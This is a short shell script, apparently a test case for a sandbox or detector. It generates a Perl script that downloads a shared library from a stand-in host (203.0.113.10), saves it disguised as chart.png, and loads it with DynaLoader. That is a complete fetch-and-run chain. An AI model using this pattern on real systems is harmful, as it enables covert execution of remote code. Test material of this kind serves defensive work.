#!/bin/sh
. /opt/case/case.sh

cat >/tmp/l.pl <<'END'
use IO::Socket::INET; require DynaLoader;
my $s = IO::Socket::INET->new("203.0.113.10:8080") or die; print $s "GET /programs/preload.so HTTP/1.0\r\n\r\n";
local $/; my $r = <$s>; $r =~ s/^.*?\r\n\r\n//s; open my $f, ">", "/srv/data/chart.png" or die; binmode $f; print $f $r; close $f;
DynaLoader::dl_load_file("/srv/data/chart.png", 0) or die DynaLoader::dl_error();
END
perl /tmp/l.pl
test -e /tmp/reached
took_place
